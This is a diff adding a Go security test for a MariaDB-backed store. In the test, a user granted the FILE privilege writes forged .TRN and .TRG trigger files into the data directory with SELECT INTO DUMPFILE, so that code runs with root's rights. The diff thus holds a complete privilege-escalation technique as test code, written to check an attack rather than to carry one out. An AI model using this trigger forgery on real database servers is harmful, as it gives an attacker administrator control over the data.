@@ -532,6 +532,32 @@ func TestAStrangerWhoMayMakeTheServerAReplicaRunsAnything(t *testing.T) {
 	eventually(t, "his server empties the table", func() bool { return s.admin(`SELECT COUNT(*) FROM `+usual) == "0" })
 }
 
+// Who may write files writes one that the server takes for a trigger of whom he likes.
+func TestAStrangerWhoMayWriteFilesRunsAnything(t *testing.T) {
+	s := withStrangers(t)
+	if isMySQL(t, s.m) || s.admin(`SELECT COALESCE(@@secure_file_priv, '')`) != "" {
+		t.Skip("the server keeps its own files from that")
+	}
+	store := opened(t, s.url("app"))
+	it := put(t, store, register.Item{Key: "k"}, "1")
+	root, _, _ := strings.Cut(s.admin(`SELECT CURRENT_USER()`), "@")
+	host := s.admin(`SELECT SUBSTRING_INDEX(CURRENT_USER(), '@', -1)`)
+	dir := s.admin(`SELECT @@datadir`) + "turnwise/"
+	trigger := fmt.Sprintf("TYPE=TRIGGERS\ntriggers='CREATE DEFINER=`%s`@`%s` TRIGGER x BEFORE UPDATE ON turnwise_register FOR EACH ROW INSERT INTO ours.caught VALUES (CURRENT_USER())'\n"+
+		"sql_modes=0\ndefiners='%[1]s@%[2]s'\nclient_cs_names='utf8mb4'\nconnection_cl_names='utf8mb4_general_ci'\ndb_cl_names='utf8mb4_general_ci'\ncreated=0\n", root, host)
+	write := func(name, text string) string {
+		return fmt.Sprintf(`SELECT x'%x' INTO DUMPFILE '%s%s'`, text, dir, name)
+	}
+	s.mayNot(write("x.TRN", "TYPE=TRIGGERNAME\ntrigger_table=turnwise_register\n"))
+	s.admin(`GRANT FILE ON *.* TO mallory@'127.0.0.1'`)
+	s.mallory(write("x.TRN", "TYPE=TRIGGERNAME\ntrigger_table=turnwise_register\n"), write("turnwise_register.TRG", trigger))
+	s.admin(`FLUSH TABLES`) // as happens now and then
+	_, err := store.Swap(within(t, 20*time.Second), register.Swap{Key: "k", Old: it.Version, Next: register.NewVersion()})
+	if n := s.admin(`SELECT COUNT(*) FROM ours.caught WHERE who LIKE 'root@%'`); n == "0" {
+		t.Errorf("nothing has run with the rights of root: %v", err)
+	}
+}
+
 // A UNIQUE index takes some rows for one that are not, and without the primary key two could be of one name: neither is gone on with.
 func TestAStrangerWhoMayMakeIndexes(t *testing.T) {
 	for name, sql := range map[string]string{
